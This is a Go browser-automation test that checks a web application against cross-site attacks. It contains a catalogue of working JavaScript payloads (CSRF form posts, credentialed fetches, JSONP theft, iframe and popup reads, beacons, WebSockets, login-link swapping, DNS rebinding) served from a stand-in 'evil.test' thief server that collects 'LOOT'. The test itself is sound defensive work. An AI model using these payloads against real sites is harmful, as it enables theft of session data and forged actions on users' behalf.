package handlers_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"citd/handlers"
	"citd/store"

	"github.com/chromedp/chromedp"
)

// attacks are the bodies of async functions that a foreign page runs against the
// server V, and that return what they could read of it.
var attacks = []struct{ name, script string }{
	{"form shaped as JSON", `return await submit('/data-sub/api/employee/', 'text/plain', '{"employee_id":"EVIL","name":"', '"}')`},
	{"form that decides", `return await submit('/alerts/1/decide', 'application/x-www-form-urlencoded', 'action', 'confirm')`},
	{"fetch", `return await get('/data-sub/api/detectionmodelresult/', {credentials: 'include'}) + await get('/', {credentials: 'include'}) +
		await get('/data-sub/api/employee/', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'}, body: '{"employee_id":"EVIL"}'})`},
	{"fetch without CORS", `return await get('/alerts/1/decide', {method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({action: 'confirm'})}) +
		await get('/data-sub/api/employee/', {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"employee_id":"EVIL"}'}) +
		await get('/alerts/1', {mode: 'no-cors', credentials: 'include'})`},
	{"image", `const i = new Image(); const end = new Promise(r => { i.onload = i.onerror = r }); i.src = V + '/static/favicon.svg'; await end;
		const j = new Image(); const over = new Promise(r => { j.onload = j.onerror = r }); j.src = V + '/alerts/1'; await over; return i.width ? 'LOOT image' : ''`},
	{"script", `for (const p of ['/data-sub/api/detectionmodelresult/?format=json', '/data-sub/api/detectionmodelresult/?callback=steal', '/static/app.js']) {
		window.steal = v => { window.stolen = 'LOOT ' + JSON.stringify(v) };
		const s = document.createElement('script'); const end = new Promise(r => { s.onload = s.onerror = r }); s.src = V + p; document.body.append(s); await end } return window.stolen ?? ''`},
	{"frame", `const f = document.createElement('iframe'); const end = new Promise(r => { f.onload = r }); f.src = V + '/alerts/1'; document.body.append(f); await end; return read(f)`},
	{"null origin", `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms';
		const told = new Promise(r => addEventListener('message', e => r(e.data)));
		f.srcdoc = '<form id=f method=post action="' + V + '/alerts/1/decide"><input name=action value=confirm></form><script>(async () => { let t = ""; for (const o of [{credentials: "include"}, {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({action: "confirm"})}]) try { t += await (await fetch("' + V + '/alerts/1/decide", o)).text() } catch {} parent.postMessage(t, "*"); f.submit() })()</'+'script>';
		document.body.append(f); const t = await told; await wait(300); return t`},
	{"popup", `const w = open(V + '/alerts/1'); await wait(600); let t = ''; try { t = w.document.body.innerText } catch {} try { t += w.length ? 'LOOT frames' : '' } catch {}
		try { w.postMessage('hello', '*') } catch {} w?.close(); return t`},
	{"prefetch", `for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload']) { const l = document.createElement('link'); l.rel = rel; l.as = 'fetch'; l.href = V + '/alerts/1'; document.head.append(l) }
		const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({prerender: [{urls: [V + '/alerts/1']}], prefetch: [{urls: [V + '/']}]}); document.head.append(s); await wait(500);
		return performance.getEntriesByType('resource').some(e => e.transferSize > 500 && e.name.startsWith(V)) ? 'LOOT sizes' : ''`},
	{"WebSocket", `return await new Promise(r => { const w = new WebSocket(V.replace('http', 'ws') + '/events'); w.onmessage = e => r('LOOT ' + e.data); w.onopen = () => r('LOOT open'); w.onerror = () => r(''); w.onclose = () => r('') })`},
	{"event stream", `return await new Promise(r => { const e = new EventSource(V + '/events', {withCredentials: true}); e.onmessage = e => r('LOOT ' + e.data); e.onopen = () => r('LOOT open'); e.onerror = () => { e.close(); r('') } })`},
	{"beacon and ping", `const form = new URLSearchParams({action: 'confirm'}); navigator.sendBeacon(V + '/alerts/1/decide', form);
		navigator.sendBeacon(V + '/data-sub/api/employee/', '{"employee_id":"EVIL"}'); fetch(V + '/alerts/1/decide', {method: 'POST', mode: 'no-cors', keepalive: true, body: form}).catch(() => 0);
		const a = document.createElement('a'); a.href = '#'; a.ping = V + '/alerts/1/decide'; document.body.append(a); a.click(); await wait(500); return ''`},
	{"redirect of our own", `const go = '/307?to=' + encodeURIComponent(V + '/alerts/1/decide'), o = {method: 'POST', credentials: 'include', body: new URLSearchParams({action: 'confirm'})};
		let t = ''; for (const mode of ['cors', 'no-cors']) try { t += await (await fetch(go, {...o, mode})).text() } catch {}
		return t + await submit(go, 'application/x-www-form-urlencoded', 'action', 'confirm', location.origin)`},
	{"objects, styles, workers", `const all = ['<object data="@/alerts/1"></object>', '<embed src="@/alerts/1">', '<style>@import "@/alerts/1"; body { background: url(@/people/1) }</style>', '<link rel=stylesheet href="@/alerts/1">',
		'<link rel=icon href="@/people/1">', '<video src="@/data-sub/api/employee/?format=ndjson"></video>', '<input type=image src="@/alerts/1">', '<svg><image href="@/alerts/1"/></svg>', '<iframe credentialless src="@/alerts/1"></iframe>'];
		const d = document.createElement('div'); d.innerHTML = all.join('').replaceAll('@', V); document.body.append(d);
		let t = ''; try { await import(V + '/data-sub/api/employee/?format=json') } catch {}
		t += await new Promise(r => { const w = new Worker(URL.createObjectURL(new Blob(['(async () => { let t = ""; try { importScripts("' + V + '/static/app.js"); t = "LOOT script" } catch {} try { t += await (await fetch("' + V + '/alerts/1", {credentials: "include"})).text() } catch {} postMessage(t) })()'])));
			w.onmessage = e => r(e.data); w.onerror = () => r('') });
		await wait(300); for (const f of d.querySelectorAll('object, iframe')) t += read(f);
		for (const s of document.styleSheets) try { t += s.href && s.cssRules.length ? 'LOOT rules' : '' } catch {} return t`},
	{"somebody else's link", `const w = open(V + '/login?code=' + CODE); await wait(800); w?.close(); return ''`}, // signs in as vic, if it is pressed
}

const attackTools = `const wait = ms => new Promise(r => setTimeout(r, ms));
const read = f => { try { return f.contentDocument?.body?.innerText ?? '' } catch { return '' } };
const get = async (path, o) => { try { return await (await fetch(V + path, o)).text() } catch { return '' } };
const submit = async (path, enctype, name, value, at = V) => {
	const f = document.createElement('iframe'); f.name = 'x'; document.body.append(f);
	const m = document.createElement('form'); Object.assign(m, {method: 'POST', enctype, action: at + path, target: 'x'});
	const i = document.createElement('input'); Object.assign(i, {name, value}); m.append(i); document.body.append(m);
	const end = new Promise(r => { f.onload = r }); m.submit(); await Promise.race([end, wait(3000)]); return read(f) };
`

// thief serves the attack pages and takes what they bring back.
type thief struct {
	*httptest.Server
	mu   sync.Mutex
	loot map[string]string
}

func startThief(tb testing.TB, victim, code string) *thief {
	th := &thief{loot: map[string]string{}}
	th.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if to := r.URL.Query().Get("to"); to != "" {
			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
			return
		}
		name := r.URL.Query().Get("name")
		if r.Method == http.MethodPost {
			b, _ := io.ReadAll(r.Body)
			th.mu.Lock()
			defer th.mu.Unlock()
			th.loot[name] += string(b)
			return
		}
		for _, a := range attacks {
			if a.name == name {
				fmt.Fprintf(w, `<!doctype html><title>at work</title><body><script>const V = %q, CODE = %q; %s
(async () => { %s })().catch(e => 'failed: ' + e).then(async t => { await fetch(location.href, {method: 'POST', body: String(t)}); document.title = 'done' })</script>`, victim, code, attackTools, a.script)
			}
		}
	}))
	tb.Cleanup(th.Close)
	return th
}

func (th *thief) took(name string) string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return th.loot[name]
}

// lines keeps the log of a server.
type lines struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lines) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lines) take() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	defer l.b.Reset()
	return l.b.String()
}

// A browser in which an analyst is signed in opens pages of another site, and of
// another port of this machine. They read nothing and write nothing; a script
// that is no browser goes on.
func TestAttackPages(t *testing.T) {
	log := &lines{}
	s := serveTest(t, handlers.Options{Log: slog.New(slog.NewTextHandler(log, nil))})
	post := func(id string) int {
		return s.do(call{
			method: "POST", path: api + "detectionmodelresult/", header: map[string]string{"Authorization": basic("detector", s.tokens[store.Script]), "Content-Type": "application/json"},
			body: `{"employee": {"employee_id": "` + id + `"}, "date": "2026-01-01", "reporter": "LOOT model", "score": 0.5}`,
		}).StatusCode
	}
	if got := post("LOOT1"); got != 201 {
		t.Fatal(got)
	}
	if err := s.db.SetSetting(t.Context(), store.Actor{}, store.DisplayMode, "names"); err != nil {
		t.Fatal(err)
	}
	p := startTab(t, chromedp.Flag("host-resolver-rules", "MAP evil.test 127.0.0.1"), chromedp.Flag("disable-popup-blocking", true))
	code, err := s.db.AddLink(context.Background(), "ann", time.Minute)
	must(err)
	p.open(s.base + "/login?code=" + code)
	p.until("signed in", `document.body.innerText.includes('LOOT1') || location.pathname === '/welcome'`)
	p.open(s.base + "/alerts/1")
	p.until("the analyst sees it", `document.body.innerText.includes('LOOT1')`)
	th := startThief(t, s.base, s.link("vic"))
	port := th.URL[strings.LastIndexByte(th.URL, ':'):]
	before := s.state()
	for _, origin := range []string{"http://evil.test", "http://127.0.0.1"} {
		for _, a := range attacks {
			log.take()
			name := a.name
			p.open(origin + port + "/?name=" + strings.ReplaceAll(name, " ", "+"))
			p.until(name+" from "+origin, `document.title === 'done'`)
			if got := th.took(name); strings.Contains(got, "LOOT") {
				t.Errorf("%s from %s reads: %.300s", name, origin, got)
			}
			if after := s.state(); after != before {
				t.Errorf("%s from %s writes: %s; it was %s", name, origin, after, before)
				before = after
			}
			if reached := log.take(); !strings.Contains(reached, "msg=request") && name != "prefetch" {
				t.Errorf("%s from %s never reached the server, so it proves nothing", name, origin)
			}
		}
	}
	if list, err := s.db.Sessions(t.Context(), store.Actor{ID: 3}); err != nil || len(list) > 0 {
		t.Errorf("a page signed the browser in as somebody else: %v, %v", list, err)
	}
	rebinding(t, p, s)
	if after := s.state(); after != before {
		t.Errorf("rebinding writes: %s; it was %s", after, before)
	}
	if got := post("LOOT2"); got != 201 {
		t.Errorf("a script as of 2014 = %d", got)
	}
}

// rebinding: the name of a foreign page now leads to this server, so that to the
// browser both are one site.
func rebinding(t *testing.T, p *tab, s *testServer) {
	p.open("http://evil.test" + s.base[strings.LastIndexByte(s.base, ':'):] + "/alerts/1")
	p.until("answered", `document.readyState === 'complete'`)
	_, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool](`window.got = null, (async () => { let t = document.body.innerText;
		for (const [path, o] of [['/alerts/1'], ['/data-sub/api/employee/'], ['/login'], ['/alerts/1/decide', {method: 'POST', body: new URLSearchParams({action: 'confirm'})}],
			['/data-sub/api/employee/', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"employee_id": "EVIL"}'}]])
			try { const r = await fetch(path, o); t += r.status === 421 ? '' : ' LOOT status ' + r.status; t += await r.text() } catch (e) { t += e }
		window.got = t })(), true`))
	if err != nil {
		t.Fatal(err)
	}
	p.until("asked", `window.got !== null`)
	if got := tabSays[string](p, `window.got`); strings.Contains(got, "LOOT") || !strings.Contains(got, "does not go by that name") {
		t.Errorf("rebinding reads: %.500s", got)
	}
}

// state sums up what pages could change.
func (s *testServer) state() string {
	s.Helper()
	r, err := s.db.Verify(context.Background())
	if err != nil || !r.Whole() {
		s.Fatal(err, r.Faults)
	}
	r.Audit = store.AuditHead{} // looks are recorded
	mode, err := s.db.Setting(context.Background(), store.DisplayMode)
	must(err)
	return fmt.Sprint(r.Rows, mode)
}
